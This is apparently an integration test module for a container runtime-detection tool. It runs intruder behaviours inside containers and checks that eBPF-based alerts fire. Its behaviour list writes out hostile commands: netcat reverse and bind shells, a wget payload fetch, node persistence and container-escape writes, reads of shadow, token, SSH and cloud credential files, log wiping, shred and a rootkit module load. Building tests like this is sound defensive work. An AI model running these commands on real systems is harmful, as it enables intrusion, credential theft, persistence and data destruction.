"""Detections proven on real behaviour: each test does what an intruder does, for real, in a container of a real
containerd, while ``vigil collect node`` (eBPF sensor, containerd events, CRI) ships to the dev Kafka and ``vigil
stream worker`` raises alerts; it passes once the expected alert is on the alerts topic with its pod and with
evidence from that container, of the kind the sensor records for the behaviour (an open, a write, a connect…).

The whole module shares one containerd, one node collector and one stream worker (starting them is most of its
time); tests tell their alerts apart by container. Behaviours the kernel refuses to an unprivileged container
(bpf(), module loads, mounts, setns, writes to read-only kernel files) still count: the sensor records the
syscall as it is made, which is when an intruder's attempt becomes visible.

Outside destinations are documentation addresses (RFC 5737), which nothing answers; the one connection to a
public address (documentation addresses are not public to the detections) is made from a container whose
network namespace has no interface up, so the kernel refuses it before any packet is sent. Writes "to the
node" go to a directory standing in for the node's root filesystem, mounted at ``/host`` as a hostPath volume
is; the container runtime's socket is the test's own containerd's.
"""

from __future__ import annotations

import asyncio
import contextlib
import secrets
import shutil
import subprocess
from collections.abc import AsyncIterator, Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson
import pytest
import pytest_asyncio
from prometheus_client import REGISTRY

from tests.integration.containerd_runtime import BUSYBOX, Containerd, Pod, containerd  # noqa: F401  (the fixture)
from tests.integration.harness import running_node_collector, stream_worker_process, wait_for
from vigil import kafka
from vigil.collectors.node.collector import NodeCollector, NodeOptions
from vigil.collectors.node.metrics import SOURCE_UP
from vigil.collectors.runtime.api import cri_pb2
from vigil.config import Settings

#: A test may run its behaviour ATTEMPTS times, each waiting up to ALERT_TIMEOUT.
pytestmark = [pytest.mark.integration, pytest.mark.asyncio(loop_scope="module"), pytest.mark.timeout(600)]

IMAGE = "docker.io/vigil/intruder:test"
PROGRAMS = Path(__file__).with_name("programs")
#: busybox applets the behaviours run, linked in the image's /bin as a busybox-based image has them.
APPLETS = ("sh", "cat", "cp", "rm", "echo", "true", "sleep", "nc", "wget", "chroot", "truncate", "shred",
           "nsenter", "mount", "insmod", "arping", "touch")
#: Where a container sees the node's root filesystem (a hostPath volume of ``/``, the usual escape).
HOST = "/host"
TOKEN_DIR = "/var/run/secrets/kubernetes.io/serviceaccount"
#: Where a container gets the node's container runtime socket (a hostPath volume of it, as CI runners mount it).
RUNTIME_SOCKET = "/run/containerd/containerd.sock"
#: Documentation addresses (RFC 5737): outside the cluster, routed nowhere.
OUTSIDE = "203.0.113.5"
#: A public address: scanme.nmap.org, published for testing network tools against.
PUBLIC = "45.33.32.156"
#: The API server's service address on kubeadm clusters (runtime.api_server_contact_from_container's default).
API_SERVER = "10.96.0.1"
#: Seconds for one alert to get from a container's behaviour to the alerts topic (the machine is shared: other
#: work on it can keep the stream worker busy for a while).
ALERT_TIMEOUT = 150.0
#: Runs of a behaviour, each in a new container, while the kernel reports sensor records lost meanwhile.
ATTEMPTS = 3


#: Listen on a port below the ephemeral range (so no outgoing connection of the machine holds it), and connect
#: a shell to it; when the listener exits (its port is taken), the next port.
SHELL_ON_SOCKET = """
for port in 31514 31515 31516 31517 31518 31519; do
  nc -lp $port & listener=$!
  while kill -0 $listener 2>/dev/null; do
    nc 127.0.0.1 $port -e /bin/sh && exit 0
    sleep 0.1
  done
done
exit 1
"""


@dataclass(frozen=True)
class Behaviour:
    """What a container does and the alert it must raise: ``detection``, with evidence of ``kind`` from it."""

    container: str  # unique per behaviour: alerts are deduplicated per container and program
    command: list[str]
    detection: str
    kind: str
    mounts: tuple[str, ...] = ()  # container paths of the host paths it gets (HOST, TOKEN_DIR, RUNTIME_SOCKET)


BEHAVIOURS = [
    # Remote copy tools, network tools and netcat-style shells.
    Behaviour("fetch-payload", ["wget", "-q", "-T", "1", "-O", "/tmp/payload", f"http://{OUTSIDE}/payload"],
              "runtime.remote_copy_tool_in_container", "process.exec"),
    Behaviour("bind-shell", ["nc", "-lp", "47113"], "runtime.network_tool_in_container", "process.exec"),
    Behaviour("reverse-shell", ["nc", "-w", "1", OUTSIDE, "4444", "-e", "/bin/sh"], "runtime.reverse_shell",
              "process.exec"),
    # A shell handed to a connection (nc -e dup2s the socket onto its stdin and stdout), to a listener of its own,
    # tried again until the listener is up. The pod is on the node's network: a listener that cannot bind its
    # port (taken by something else on the machine) exits, and the next port is tried.
    Behaviour("shell-on-socket", ["sh", "-c", SHELL_ON_SOCKET], "runtime.stdio_redirected_to_socket",
              "net.stdio_redirect"),
    # arping opens its packet socket before it finds that loopback has no ARP: nothing is sent.
    Behaviour("packet-socket", ["arping", "-c", "1", "-I", "lo", "127.0.0.1"], "runtime.packet_socket_in_container",
              "net.socket"),
    # Unexpected outbound connections.
    Behaviour("ssh-out", ["ssh", "-p", "2222", OUTSIDE], "runtime.ssh_nonstandard_port", "net.connect"),
    Behaviour("api-probe", ["nc", "-w", "1", API_SERVER, "443"], "runtime.api_server_contact_from_container",
              "net.connect"),
    # Writes where the node is controlled, through the node's root mounted in the container.
    Behaviour("static-pod", ["chroot", HOST, "sh", "-c",
                             "echo 'kind: Pod' > /etc/kubernetes/manifests/kube-proxy-debug.yaml"],
              "runtime.static_pod_manifest_write", "file.write", (HOST,)),
    Behaviour("static-pod-copy", ["cp", "/bin/busybox", f"{HOST}/etc/kubernetes/manifests/etcd-backup.yaml"],
              "runtime.static_pod_manifest_write", "process.exec", (HOST,)),
    Behaviour("cron-through-mount", ["sh", "-c", f"echo '* * * * * root /tmp/.x' > {HOST}/etc/cron.d/sync"],
              "runtime.node_persistence_write", "file.write", (HOST,)),
    Behaviour("manifest-through-mount",
              ["sh", "-c", f"echo 'kind: Pod' > {HOST}/etc/kubernetes/manifests/kube-scheduler-debug.yaml"],
              "runtime.static_pod_manifest_write", "file.write", (HOST,)),
    Behaviour("cron", ["chroot", HOST, "sh", "-c", "echo '* * * * * root /tmp/.x' > /etc/cron.d/update"],
              "runtime.node_persistence_write", "file.write", (HOST,)),
    Behaviour("systemd", ["chroot", HOST, "sh", "-c", "echo '[Service]' > /etc/systemd/system/update.service"],
              "runtime.node_persistence_write", "file.write", (HOST,)),
    Behaviour("preload", ["chroot", HOST, "sh", "-c", "echo /tmp/.x.so > /etc/ld.so.preload"],
              "runtime.node_persistence_write", "file.write", (HOST,)),
    Behaviour("bashrc", ["chroot", HOST, "sh", "-c", "echo '/tmp/.x &' >> /root/.bashrc"],
              "runtime.node_persistence_write", "file.write", (HOST,)),
    Behaviour("binary-dir", ["chroot", HOST, "cp", "/bin/busybox", "/usr/bin/kubelet-check"],
              "runtime.binary_dir_write", "file.write", (HOST,)),
    Behaviour("core-pattern", ["sh", "-c", "echo '|/tmp/.x' > /proc/sys/kernel/core_pattern"],
              "runtime.container_escape_write", "file.write"),
    Behaviour("release-agent", ["sh", "-c", "echo /tmp/.x > /sys/fs/cgroup/release_agent"],
              "runtime.container_escape_write", "file.write"),
    # Credential access.
    Behaviour("shadow", ["cat", "/etc/shadow"], "runtime.sensitive_file_read", "file.open"),
    Behaviour("token", ["cat", f"{TOKEN_DIR}/token"], "runtime.sensitive_file_read", "file.open", (TOKEN_DIR,)),
    Behaviour("ssh-key", ["cat", "/root/.ssh/id_rsa"], "runtime.credential_file_access", "file.open"),
    Behaviour("cloud-keys", ["cat", "/root/.aws/credentials"], "runtime.credential_file_access", "process.exec"),
    # Defense evasion.
    Behaviour("history", ["rm", "-f", "/root/.ash_history"], "runtime.log_history_clearing", "file.write"),
    Behaviour("logs", ["truncate", "-s", "0", "/var/log/auth.log"], "runtime.log_history_clearing",
              "process.exec"),
    Behaviour("wipe", ["shred", "-u", "/var/lib/app/orders.db"], "runtime.data_destruction", "process.exec"),
    # Backdating a binary: the sensor's record of the explicit times set on a watched path is the evidence.
    Behaviour("timestomp", ["touch", "-d", "2019-01-01 00:00", "/bin/busybox"], "runtime.timestomp", "file.write"),
    # Privilege and escape.
    Behaviour("nsenter", ["nsenter", "-t", "1", "-m", "-n", "true"], "runtime.nsenter_host_namespaces",
              "process.ns_change"),
    Behaviour("mount", ["mount", "-t", "tmpfs", "tmpfs", "/tmp"], "runtime.host_mount_in_container", "fs.mount"),
    Behaviour("module", ["insmod", "/root/diamorphine.ko"], "runtime.kernel_module_load", "kernel.module_load"),
    Behaviour("bpf", ["bpf-load"], "runtime.bpf_program_in_container", "bpf.program"),
    Behaviour("ptrace", ["ptrace-attach"], "runtime.ptrace_in_container", "process.ptrace"),
    Behaviour("vm-write", ["vm-write"], "runtime.process_vm_write_injection", "process.syscall"),
    Behaviour("runtime-socket", ["unix-connect", RUNTIME_SOCKET], "runtime.container_runtime_access", "net.connect",
              (RUNTIME_SOCKET,)),
    # Fileless execution. A pod's /dev/shm is mounted noexec: the kernel refuses to run a program from there.
    Behaviour("tmp-exec", ["sh", "-c", "cp /bin/busybox /tmp/sh && /tmp/sh -c true"], "runtime.exec_from_tmp",
              "process.exec"),
    Behaviour("memfd-exec", ["fexec", "memfd"], "runtime.exec_from_tmp", "process.exec"),
    Behaviour("deleted-exec", ["fexec", "/tmp/.kworker"], "runtime.fileless_execution", "process.exec"),
]


@dataclass
class Topics:
    """The alerts topic, and the events of the tests' containers from the events topic (the pod's, and those of
    the containers without a pod named in ``plain`` before they start), as they arrive: read from their beginning
    by a task of the module's loop, so tests look them up instead of each reading the topics again. The node's
    other processes and containers (other work on this machine) are passed over unparsed where possible."""

    pod: str
    plain: set[str] = field(default_factory=set)
    alerts: list[dict[str, Any]] = field(default_factory=list)
    container_events: dict[str, dict[str, Any]] = field(default_factory=dict)

    def take(self, topic: str, value: bytes) -> None:
        if topic == "alerts":
            self.alerts.append(orjson.loads(value))
            return
        if f'"{self.pod}"'.encode() not in value and not any(plain.encode() in value for plain in self.plain):
            return
        for event in orjson.loads(value):
            if event["k8s"]["pod"] == self.pod or container_of(event) in self.plain:
                self.container_events[event["id"]] = event

    def evidence(self, detection: str, containers: list[str], kind: str) -> tuple[dict, dict] | None:
        """The first alert of ``detection`` with evidence of ``kind`` from one of ``containers``, with that event."""
        for alert in self.alerts:
            if alert["detection"] != detection:
                continue
            for event_id in alert["event_ids"]:
                event = self.container_events.get(event_id)
                if event and event["kind"] == kind and container_of(event) in containers:
                    return alert, event
        return None

    def about(self, container_id: str) -> str:
        """What the container did and what was raised about it, for a failing test's message."""
        done = [event for event in self.container_events.values()
                if container_of(event) == container_id and not event["actor"]["exe"].startswith("runc:")]
        raised = {f"{alert['detection']} ({self.container_events[i]['kind']})" for alert in self.alerts
                  for i in alert["event_ids"] if i in self.container_events and self.container_events[i] in done}
        events = [f"{event['kind']} {event['action']} {event['actor']['exe']} {event['target']['path']} "
                  f"{' '.join(event['actor']['args'])}"
                  for event in done]
        return f"raised for it: {sorted(raised)}; its events: {events}"


def container_of(event: dict[str, Any]) -> str:
    return event["k8s"].get("container_id") or event["container"].get("id", "")


@dataclass
class Node:
    """The running pipeline: the containerd the collector watches, the pod behaviours run in, and the topics."""

    containerd: Containerd
    cluster: str
    pod: Pod
    topics: Topics
    host_dirs: dict[str, Path]

    def run_in_pod(self, behaviour: Behaviour, attempt: int) -> str:
        mounts = [cri_pb2.Mount(container_path=path, host_path=str(self.host_dirs[path]),
                                readonly=path == TOKEN_DIR) for path in behaviour.mounts]
        return self.containerd.run_container(self.pod, behaviour.container, behaviour.command, attempt=attempt,
                                             image=IMAGE, mounts=mounts)

    def run_without_pod(self, behaviour: Behaviour, attempt: int) -> str:
        container_id = secrets.token_hex(32)
        self.topics.plain.add(container_id)
        self.containerd.run_plain_container(container_id, behaviour.command, IMAGE)
        return container_id

    async def perform(self, behaviour: Behaviour, run: Callable[[Behaviour, int], str]) -> tuple[dict, dict]:
        """Run the behaviour in a container and return the alert it raised with its evidence (see
        :meth:`Topics.evidence`). When the kernel dropped sensor records meanwhile (counted, never silent: the
        machine is shared), it runs again in a new container, as the kubelet restarts one."""
        containers: list[str] = []
        while True:
            losses = kernel_losses()
            containers.append(await asyncio.to_thread(run, behaviour, len(containers)))
            try:
                return await wait_for(lambda: self.topics.evidence(behaviour.detection, containers, behaviour.kind),
                                      timeout=ALERT_TIMEOUT, interval=0.2)
            except AssertionError:
                lost = kernel_losses() - losses
                if not lost or len(containers) == ATTEMPTS:
                    raise AssertionError(
                        f"no {behaviour.detection} alert with {behaviour.kind} evidence from the container within "
                        f"{ALERT_TIMEOUT}s ({lost:.0f} sensor records lost meanwhile); "
                        f"{self.topics.about(containers[-1])}") from None


def kernel_losses() -> float:
    return sum(REGISTRY.get_sample_value("vigil_sensor_kernel_losses_total", {"reason": reason}) or 0.0
               for reason in ("full", "busy"))


def _compile(directory: Path) -> dict[str, Path]:
    """The test programs, built static from ``programs/*.c`` (the image has no C library): image path → file."""
    compiler = shutil.which("cc")
    if compiler is None:
        pytest.skip("no C compiler (cc) to build the behaviours' programs")
    built = {}
    for source in sorted(PROGRAMS.glob("*.c")):
        name = source.stem.replace("_", "-")
        subprocess.run([compiler, "-static", "-O2", "-o", str(directory / name), str(source)], check=True,
                       capture_output=True, timeout=120)
        built[f"bin/{name}"] = directory / name
    return built


def _loot(directory: Path) -> dict[str, Path]:
    """Files an intruder goes for, as a compromised image has them: image path → file."""
    contents = {
        "etc/shadow": "root:$6$salt$hash:19700:0:99999:7:::\n",
        "root/.ssh/id_rsa": "-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n-----END OPENSSH PRIVATE KEY-----\n",
        "root/.aws/credentials": "[default]\naws_access_key_id = AKIAEXAMPLE\n",
        "root/.ash_history": "cat /etc/shadow\n",
        "root/diamorphine.ko": "\x7fELF not a module\n",
        "var/log/auth.log": "sshd[1]: Accepted publickey for root\n",
        "var/lib/app/orders.db": "order 1\n" * 100,
    }
    files = {}
    for member, text in contents.items():
        path = directory / member.replace("/", "_")
        path.write_text(text)
        files[member] = path
    return files


def _node_root(directory: Path) -> Path:
    """A directory standing in for the node's root filesystem: busybox, and the directories that control a
    node."""
    root = directory / "node-root"
    for sub in ("bin", "usr/bin", "root", "etc/kubernetes/manifests", "etc/cron.d", "etc/systemd/system"):
        (root / sub).mkdir(parents=True)
    shutil.copy(BUSYBOX, root / "bin" / "busybox")
    for applet in ("sh", "cp", "echo"):
        (root / "bin" / applet).symlink_to("busybox")
    return root


def _token_dir(directory: Path) -> Path:
    tokens = directory / "serviceaccount"
    tokens.mkdir()
    (tokens / "token").write_text("eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQifQ.c2ln")
    return tokens


async def _follow(settings: Settings, topics: Topics) -> None:
    consumer = kafka.consumer(settings, settings.topic("alerts"), settings.topic("events"), group_id=None)
    await consumer.start()
    try:
        await consumer.seek_to_beginning(*consumer.assignment())
        names = {settings.topic(name): name for name in ("alerts", "events")}
        while True:
            for partition, messages in (await consumer.getmany(timeout_ms=500)).items():
                for message in messages:
                    topics.take(names[partition.topic], message.value)
    finally:
        await consumer.stop()


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def node(module_settings: Settings, containerd: Containerd,  # noqa: F811
               tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Node]:
    """containerd with the intruder's image, ``vigil collect node`` with eBPF on it, the stream worker, and a
    task following the alerts and events topics."""
    settings, directory = module_settings, tmp_path_factory.mktemp("behaviour")
    settings.node = "node-under-test"
    await asyncio.to_thread(containerd.import_image, IMAGE, ["/bin/sh"], APPLETS,
                            _compile(directory) | _loot(directory))
    await kafka.ensure_topics(settings)
    options = NodeOptions(containerd_address=containerd.address, kernel_audit=False, kube_api=False)
    collector = NodeCollector(settings, options)
    with contextlib.suppress(KeyError):  # an earlier collector's: reappears once this one started its sensor
        SOURCE_UP.remove("ebpf")
    stop, run = await running_node_collector(collector, timeout=120)
    try:
        await wait_for(lambda: REGISTRY.get_sample_value("vigil_node_source_up", {"source": "ebpf"}) is not None,
                       timeout=60, interval=0.1)
        if REGISTRY.get_sample_value("vigil_node_source_up", {"source": "ebpf"}) != 1:
            pytest.skip("the eBPF sensor cannot run on this host (see the collector's log)")
        with stream_worker_process(settings, directory):
            pod = await asyncio.to_thread(containerd.run_pod, "web-6d8f9", "shop", {"app": "web"})
            topics = Topics(pod.name)
            follower = asyncio.create_task(_follow(settings, topics))
            try:
                yield Node(containerd, settings.cluster, pod, topics, {
                    HOST: _node_root(directory), TOKEN_DIR: _token_dir(directory), RUNTIME_SOCKET: containerd.socket})
            finally:
                follower.cancel()
                with contextlib.suppress(asyncio.CancelledError):
                    await follower
    finally:
        stop.set()
        await asyncio.wait_for(run, 60)


@pytest.mark.parametrize("behaviour", BEHAVIOURS, ids=lambda behaviour: behaviour.container)
async def test_behaviour_in_a_pod_raises_its_alert(node: Node, behaviour: Behaviour) -> None:
    alert, event = await node.perform(behaviour, node.run_in_pod)
    assert (alert["namespace"], alert["pod"], alert["cluster"]) == ("shop", "web-6d8f9", node.cluster)
    k8s = event["k8s"]
    assert (k8s["namespace"], k8s["pod"], k8s["container_name"], k8s["image"]) == (
        "shop", "web-6d8f9", behaviour.container, IMAGE)
    assert event["node"] == "node-under-test"


#: Behaviours of a container started through containerd alone: no pod, so no pod metadata; still a container.
PLAIN_BEHAVIOURS = [
    Behaviour("plain-bind-shell", ["nc", "-lp", "47113"], "runtime.network_tool_in_container", "process.exec"),
    # Its network namespace has no interface up: the kernel refuses the connection before sending anything.
    Behaviour("plain-callback", ["nc", "-w", "1", PUBLIC, "4444"], "runtime.public_connection_from_container",
              "net.connect"),
]


@pytest.mark.parametrize("behaviour", PLAIN_BEHAVIOURS, ids=lambda behaviour: behaviour.container)
async def test_behaviour_in_a_container_without_a_pod_raises_its_alert(node: Node, behaviour: Behaviour) -> None:
    alert, event = await node.perform(behaviour, node.run_without_pod)
    assert (alert["namespace"], alert["pod"]) == ("", "")
    assert event["k8s"]["pod"] == "" and event["container"]["id"] == event["k8s"]["container_id"]
    assert f"container {event['container']['id'][:12]}" in alert["title"], alert["title"]
